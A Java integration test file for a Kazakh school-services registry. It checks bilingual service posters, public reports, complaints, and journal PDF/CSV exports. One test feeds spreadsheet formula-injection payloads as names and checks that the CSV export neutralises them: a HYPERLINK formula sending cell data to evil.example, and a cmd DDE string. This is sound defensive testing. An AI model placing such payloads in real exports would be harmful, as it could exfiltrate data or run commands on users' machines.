package kz.qujat.reports;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Pattern;

import kz.qujat.catalog.Channel;
import kz.qujat.registry.Counter;
import kz.qujat.registry.DocumentKind;
import kz.qujat.registry.DocumentSignature;
import kz.qujat.registry.Holder;
import kz.qujat.registry.IssuedDocuments;
import kz.qujat.registry.NewRegistration;
import kz.qujat.registry.Numbering;
import kz.qujat.registry.Registration;
import kz.qujat.registry.RevocationReason;
import kz.qujat.registry.Term;
import kz.qujat.registry.VerificationCode;
import kz.qujat.support.Api;
import kz.qujat.support.Pdfs;
import kz.qujat.support.ServiceTest;
import kz.qujat.support.TestSchools;
import kz.qujat.system.Iin;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;

import tools.jackson.databind.JsonNode;
import tools.jackson.databind.MappingIterator;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvSchema;

/** The papers about a school: service passport posters, the public report, the journal and complaints. */
class SchoolDocumentsIntegrationTests extends ServiceTest {

	static final List<String> GENERAL_SCHOOL = List.of("school-admission", "home-schooling", "teacher-attestation",
			"education-duplicates");

	@Autowired
	TestSchools testSchools;

	@Autowired
	IssuedDocuments documents;

	@Autowired
	Numbering numbering;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	JsonMapper json;

	@ParameterizedTest(name = "{0} on {1}")
	@CsvSource({ "teacher-attestation, A4", "teacher-attestation, A3", "school-admission, A4", "school-admission, A3",
			"home-schooling, A4", "home-schooling, A3", "education-duplicates, A4", "education-duplicates, A3",
			"additional-education-admission, A4", "additional-education-admission, A3" })
	void everyPosterIsOnePageInBothLanguagesWithAQrCodeThatVerifiesIt(String service, String size) {
		HttpResponse<byte[]> answer = api.get("/api/v1/services/" + service + "/passport.pdf?size=" + size);
		assertThat(answer.statusCode()).as(Api.text(answer)).isEqualTo(200);
		byte[] pdf = answer.body();

		assertThat(Pdfs.pages(pdf)).isEqualTo(1);
		JsonNode catalog = Api.json(api.anonymous().get("/api/v1/services/" + service));
		String text = Pdfs.textAsDrawn(pdf).replaceAll("\\s+", " ");
		assertThat(text).contains(catalog.get("name").get("kk").asString().replaceAll("\\s+", " "),
				catalog.get("name").get("ru").asString().replaceAll("\\s+", " "), "МЕМЛЕКЕТТІК ҚЫЗМЕТ ПАСПОРТЫ",
				"ПАСПОРТ ГОСУДАРСТВЕННОЙ УСЛУГИ", "Сенім телефоны", "Телефон доверия", "+7 716 000 00 07",
				"түскі үзіліс 13:00–14:00", "обеденный перерыв 13:00–14:00", "Серікбаева Гүлнар Мұратқызы");
		String scanned = Pdfs.qrCode(pdf, 0, 100);
		JsonNode verified = Api.json(api.anonymous().get("/api/v1/verify/" + scanned.substring(scanned.lastIndexOf('/') + 1)));
		assertThat(verified.get("status").asString()).isEqualTo("valid");
		assertThat(verified.get("kind").asString()).isEqualTo("passport");
		if (size.equals("A3")) {
			String firstDocument = catalog.get("documents").get(0).get("ru").asString();
			String fragment = firstDocument.substring(0, 1).toUpperCase() + firstDocument.substring(1, Math.min(8, firstDocument.length()));
			assertThat(Pdfs.fontSizesOf(pdf, fragment)).isNotEmpty().allSatisfy(pt -> assertThat(pt).isGreaterThanOrEqualTo(12f));
		}
	}

	@Test
	void aPosterComesBackTheSameUntilItChangesAndThenTheOldOneIsSuperseded() throws Exception {
		HttpResponse<byte[]> first = api.get("/api/v1/services/home-schooling/passport.pdf?size=A4");
		HttpResponse<byte[]> again = api.get("/api/v1/services/home-schooling/passport.pdf?size=A4");
		assertThat(again.body()).isEqualTo(first.body());

		// the packaged copy the service reads, not templates/ of the checkout
		Path template = Path.of(getClass().getResource("/qujat/templates/documents/passport.ftlh").toURI());
		FileTime modified = Files.getLastModifiedTime(template);
		try {
			Files.setLastModifiedTime(template, FileTime.from(Instant.now()));
			HttpResponse<byte[]> renewed = api.get("/api/v1/services/home-schooling/passport.pdf?size=A4");
			assertThat(renewed.headers().firstValue("X-Document-Id")).isNotEqualTo(first.headers().firstValue("X-Document-Id"));

			String oldCode = code(first.body());
			JsonNode old = Api.json(api.anonymous().get("/api/v1/verify/" + oldCode));
			assertThat(old.get("status").asString()).isEqualTo("superseded");
			assertThat(Api.text(api.anonymous().get("/v/" + oldCode + "?lang=ru"))).contains("Документ заменён более новым");
			assertThat(Api.json(api.anonymous().get("/api/v1/verify/" + code(renewed.body()))).get("status").asString())
				.isEqualTo("valid");
		}
		finally {
			Files.setLastModifiedTime(template, modified);
		}
	}

	@Test
	void refusesAPosterSizeOrServiceItDoesNotHave() {
		assertThat(api.get("/api/v1/services/teacher-attestation/passport.pdf?size=A5").statusCode()).isEqualTo(400);
		assertThat(api.get("/api/v1/services/driving-licence/passport.pdf").statusCode()).isEqualTo(404);
		assertThat(api.anonymous().get("/api/v1/services/teacher-attestation/passport.pdf").statusCode()).isEqualTo(401);
	}

	@Test
	void theDirectorsSignatureStaysWholeOnThePageEachLanguageEndsOn() {
		TestSchools.Made school = testSchools.create("signature-clerk", List.of("school-admission", "home-schooling",
				"teacher-attestation", "education-duplicates", "additional-education-admission"));
		String director = "Сапарова-Жақсылықова Айжан-Гүлнар Болатқызы";
		Api clerk = api.as(school.username(), school.password());
		// the school's name (in the heading and a paragraph) a little longer each time, so that the signature comes
		// to every place on the page, the foot of the Kazakh one among them
		for (int words = 0; words <= 60; words += 2) {
			jdbc.sql("update school set director_name = ?, name_kk = ? where id = ?")
				.params(director, "«Көкшетау қаласының" + " сынақ".repeat(words) + " № 9 мектеп-лицейі» КММ", school.school())
				.update();
			byte[] pdf = clerk.get("/api/v1/reports/public.pdf?year=2017").body();
			List<Integer> signed = new ArrayList<>();
			for (int page = 1; page <= Pdfs.pages(pdf); page++) {
				// without spaces: the name may wrap, at a hyphen too
				String onPage = Pdfs.text(pdf, page).replaceAll("\\s+", "");
				if (onPage.contains("Болатқызы")) {
					assertThat(onPage).as("page %d with %d words more", page, words)
						.contains(("Директор" + director).replaceAll("\\s+", ""));
					signed.add(page);
				}
			}
			assertThat(signed).as("the Kazakh part's signature and the Russian part's, %d words more", words).hasSize(2);
		}
	}

	@Test
	void thePublicReportStatesTheYearsFiguresInBothLanguages() {
		TestSchools.Made school = testSchools.create("lyceum6-clerk", GENERAL_SCHOOL);
		fill(school, "school-admission", "paper", 154);
		fill(school, "home-schooling", "paper", 9);
		fill(school, "teacher-attestation", "paper", 5);
		fill(school, "education-duplicates", "state-corporation", 3);
		Api clerk = api.as(school.username(), school.password());

		HttpResponse<byte[]> answer = clerk.get("/api/v1/reports/public.pdf?year=2017");
		assertThat(answer.statusCode()).as(Api.text(answer)).isEqualTo(200);
		byte[] pdf = answer.body();
		String text = Pdfs.textAsDrawn(pdf).replaceAll("\\s+", " ");

		assertThat(text).contains("Тізілімі 4 қызметті қамтиды", "барлығы 171 мемлекеттік қызмет көрсетілді",
				"қағаз түрінде – 168", "электрондық түрде – 0", "Мемлекеттік корпорациясы арқылы – 3",
				"құжаттарды қабылдау және оқуға қабылдау – 154 (құжаттар қабылданды – 154, бас тартылды – 0)",
				"құжаттарды қабылдау – 9 (құжаттар қабылданды – 9", "құжаттарды қабылдау – 5 (құжаттар қабылданды – 5",
				"телнұсқаларын беру – 3 (құжаттар қабылданды – 3", "негізсіз бас тартулар болған жоқ",
				"шағымдар қабылданбады");
		assertThat(text).contains("Реестр КГУ «Тестовая школа-лицей № 6 города Кокшетау» содержит 4 услуг(и)",
				"оказано 171 государственных услуг", "в бумажном виде через канцелярию услугодателя – 168",
				"через Государственную корпорацию «Правительство для граждан» – 3",
				"общего среднего образования – 154 (принято документов – 154, отказано – 0)",
				"образовании – 3 (принято документов – 3", "необоснованных отказов не было",
				"Жалоб по оказанию государственных услуг не поступало", "Сапарова Айжан Болатқызы");
		assertThat(text.indexOf("барлығы 171")).isLessThan(text.indexOf("оказано 171"));
		assertThat(Pdfs.fonts(pdf)).allSatisfy(font -> assertThat(font.embedded() && font.subset()).as(font.name()).isTrue());
		assertThat(Pdfs.qrCode(pdf, 0, 150)).contains("/v/");

		assertThat(clerk.get("/api/v1/reports/public.pdf?year=2017").body()).isEqualTo(pdf);
	}

	@Test
	void onlyRefusalsRevokedAsOverturnedCountAsUnjustified() {
		TestSchools.Made school = testSchools.create("lyceum9-clerk", GENERAL_SCHOOL);
		List<UUID> refusals = fill(school, "school-admission", "paper", DocumentKind.REFUSAL, 3);
		documents.revoke(school.school(), refusals.get(0), RevocationReason.REFUSAL_OVERTURNED, null, school.clerk());
		documents.revoke(school.school(), refusals.get(1), RevocationReason.ISSUED_IN_ERROR, "опечатка", school.clerk());

		String text = Pdfs.textAsDrawn(api.as(school.username(), school.password())
			.get("/api/v1/reports/public.pdf?year=2017").body()).replaceAll("\\s+", " ");

		assertThat(text).contains("негізсіз бас тартулар саны – 1", "необоснованных отказов – 1");
	}

	@Test
	void aReportCountsTheComplaintsAndIsRenewedWhenTheyChange() {
		TestSchools.Made school = testSchools.create("lyceum7-clerk", GENERAL_SCHOOL);
		Api clerk = api.as(school.username(), school.password());
		HttpResponse<byte[]> before = clerk.get("/api/v1/reports/public.pdf?year=2026");
		String empty = Pdfs.textAsDrawn(before.body()).replaceAll("\\s+", " ");
		assertThat(empty).contains("Есепті 2026 жылы мемлекеттік қызметтер көрсетілген жоқ.",
				"В 2026 году государственные услуги не оказывались.");

		HttpResponse<byte[]> recorded = clerk.post("/api/v1/complaints", """
				{"receivedOn":"2026-10-05","service":"teacher-attestation","summary":"Қолхат кешігіп берілді / Расписка выдана с опозданием",
				 "outcome":"Кешірім сұралды / Принесены извинения","justified":true}""");
		assertThat(recorded.statusCode()).as(Api.text(recorded)).isEqualTo(201);
		assertThat(Api.json(clerk.get("/api/v1/complaints?year=2026"))).hasSize(1);

		HttpResponse<byte[]> after = clerk.get("/api/v1/reports/public.pdf?year=2026");
		assertThat(after.headers().firstValue("X-Document-Id")).isNotEqualTo(before.headers().firstValue("X-Document-Id"));
		assertThat(Pdfs.textAsDrawn(after.body()).replaceAll("\\s+", " "))
			.contains("1 шағым қабылданды, оның ішінде негізді деп танылғаны – 1",
					"поступило жалоб – 1, из них признано обоснованными – 1");
		assertThat(Api.json(api.anonymous().get("/api/v1/verify/" + code(before.body()))).get("status").asString())
			.isEqualTo("superseded");
	}

	@Test
	void complaintsAreCheckedLikeEveryOtherRequest() {
		assertThat(api.post("/api/v1/complaints", "{\"receivedOn\":\"2026-12-31\",\"summary\":\"x\"}").statusCode()).isEqualTo(400);
		assertThat(api.post("/api/v1/complaints", "{\"receivedOn\":\"2026-10-01\",\"service\":\"nope\",\"summary\":\"x\"}")
			.statusCode()).isEqualTo(400);
		assertThat(api.post("/api/v1/complaints", "{\"receivedOn\":\"2026-10-01\",\"summary\":\" \"}").statusCode()).isEqualTo(400);
		assertThat(api.get("/api/v1/reports/public.pdf?year=2031").statusCode()).isEqualTo(400);
	}

	@Test
	void aJournalOfTwoThousandRowsHasItsHeaderAndPageNumbersOnEveryPage() {
		TestSchools.Made school = testSchools.create("lyceum8-clerk", GENERAL_SCHOOL);
		fill(school, "school-admission", "paper", 2000);
		Api clerk = api.as(school.username(), school.password());

		long started = System.nanoTime();
		HttpResponse<byte[]> answer = clerk.get("/api/v1/reports/journal.pdf?service=school-admission&year=2017");
		long millis = (System.nanoTime() - started) / 1_000_000;
		assertThat(answer.statusCode()).as(Api.text(answer)).isEqualTo(200);
		byte[] pdf = answer.body();
		int pages = Pdfs.pages(pdf);
		System.out.printf("journal of 2000 rows: %d pages, %d bytes, %d ms%n", pages, pdf.length, millis);

		assertThat(pages).isGreaterThan(10);
		for (int page = 1; page <= pages; page++) {
			String onPage = Pdfs.text(pdf, page);
			assertThat(onPage).contains("Дата, время", "Услугополучатель", "бет / стр. " + page + " из " + pages);
			// a row stays on one page: each number on it with its status, the last cell, written out in full
			assertThat(occurrences(onPage, "выдан")).as("rows ending on page %d", page)
				.isEqualTo(occurrences(onPage, "ADM-2017-"));
		}
		String text = Pdfs.text(pdf);
		assertThat(text).contains("ADM-2017-0001", "ADM-2017-1000", "ADM-2017-2000", "Барлығы / Всего: 2000");

		HttpResponse<byte[]> csv = clerk.get("/api/v1/reports/journal.csv?service=school-admission&year=2017");
		assertThat(csv.headers().firstValue("Content-Type")).hasValueSatisfying(v -> assertThat(v).startsWith("text/csv"));
		assertThat(csv.body()).startsWith(0xEF, 0xBB, 0xBF);
		String table = new String(csv.body(), 3, csv.body().length - 3, StandardCharsets.UTF_8);
		assertThat(table.lines().filter(line -> line.startsWith("ADM-2017-"))).hasSize(2000);
		assertThat(table).startsWith("number,registered,applicant,documents,result,due,staff,status")
			.contains("Ахметов Ерлан Ұланұлы, ЖСН/ИИН 871008401427");
	}

	@Test
	void theCsvJournalNeutralisesFormulasInApplicantAndStaffNames() throws Exception {
		String formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
		TestSchools.Made school = testSchools.create("formula-clerk", GENERAL_SCHOOL);
		jdbc.sql("update staff set full_name = ? where id = ?").params(formula, school.clerk()).update();
		Api clerk = api.as(school.username(), school.password());
		for (String name : List.of(formula, "+7 701 000 00 01", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)")) {
			HttpResponse<byte[]> issued = clerk.post("/api/v1/documents", """
					{"kind": "receipt", "service": "teacher-attestation",
					 "applicant": {"fullName": %s, "iin": "800416300257"},
					 "documents": [{"code": "application"}]}""".formatted(json.writeValueAsString(name)));
			assertThat(issued.statusCode()).as(Api.text(issued)).isEqualTo(201);
		}

		HttpResponse<byte[]> csv = clerk.get("/api/v1/reports/journal.csv?service=teacher-attestation&year=2026");
		assertThat(csv.statusCode()).isEqualTo(200);
		String table = new String(csv.body(), 3, csv.body().length - 3, StandardCharsets.UTF_8);
		assertThat(table).contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")");
		List<Map<String, String>> rows = new ArrayList<>();
		CsvMapper reader = new CsvMapper();
		try (MappingIterator<Map<String, String>> lines = reader.readerForMapOf(String.class)
			.with(CsvSchema.emptySchema().withHeader())
			.readValues(table)) {
			lines.forEachRemaining(rows::add);
		}
		assertThat(rows).hasSize(4).allSatisfy(row -> {
			assertThat(row.get("staff")).isEqualTo("'" + formula);
			assertThat(row.get("applicant")).startsWith("'").endsWith(", ЖСН/ИИН 800416300257");
			assertThat(row.values()).noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
		});
		assertThat(rows).extracting(row -> row.get("applicant"))
			.containsExactlyInAnyOrder("'" + formula + ", ЖСН/ИИН 800416300257", "'+7 701 000 00 01, ЖСН/ИИН 800416300257",
					"'-2+3+cmd|' /C calc'!A0, ЖСН/ИИН 800416300257", "'@SUM(1+9), ЖСН/ИИН 800416300257");

		String printed = Pdfs.text(clerk.get("/api/v1/reports/journal.pdf?service=teacher-attestation&year=2026").body());
		assertThat(printed).as("the printout shows the names as typed")
			.contains("=HYPERLINK(\"http://evil", "+7 701 000 00 01", "@SUM(1+9)")
			.doesNotContain("'=HYPERLINK", "'+7", "'@SUM");
	}

	@Test
	void anEmptyJournalSaysSo() {
		HttpResponse<byte[]> answer = api.get("/api/v1/reports/journal.pdf?service=education-duplicates&year=2019");
		assertThat(answer.statusCode()).isEqualTo(200);
		assertThat(Pdfs.textAsDrawn(answer.body())).contains("В этом году по этой услуге документы не регистрировались");
		assertThat(api.get("/api/v1/reports/journal.pdf?service=nope&year=2019").statusCode()).isEqualTo(400);
	}

	/** Registers {@code count} receipts of 2017 straight in the registry, as the year's journal would hold them. */
	private void fill(TestSchools.Made school, String service, String channel, int count) {
		fill(school, service, channel, DocumentKind.RECEIPT, count);
	}

	private List<UUID> fill(TestSchools.Made school, String service, String channel, DocumentKind kind, int count) {
		String prefix = switch (service) {
			case "school-admission" -> "ADM";
			case "home-schooling" -> "HOME";
			case "education-duplicates" -> "DUP";
			default -> "ATT";
		};
		Instant received = Instant.parse("2017-03-01T04:00:00Z");
		List<UUID> made = new ArrayList<>();
		for (int i = 0; i < count; i++) {
			Registration registration = numbering.take(new NewRegistration(school.school(),
					new Counter(service, prefix), service, null, 2017, kind, Channel.fromCode(channel),
					new VerificationCode(UUID.randomUUID().toString().replace("-", "").substring(0, 20).toUpperCase()),
					// every seventh name long enough to wrap, so that rows differ in height as in a real journal
					new Holder(i % 7 == 3 ? "Ахметов-Сұлтанбеков Ерлан-Нұрсұлтан Ұланұлы Жақсылықұлы" : "Ахметов Ерлан Ұланұлы",
							Iin.of("871008401427")), school.clerk(), Term.at(received),
					"{\"documents\":[{\"code\":\"application\"}]}"));
			documents.complete(registration, new byte[] { 37, 80, 68, 70 }, "00".repeat(32),
					new DocumentSignature("Тест", received, true));
			made.add(registration.id());
		}
		return made;
	}

	private static String code(byte[] pdf) {
		String scanned = Pdfs.qrCode(pdf, 0, 100);
		return scanned.substring(scanned.lastIndexOf('/') + 1);
	}

	private static int occurrences(String text, String part) {
		return text.split(Pattern.quote(part), -1).length - 1;
	}
}
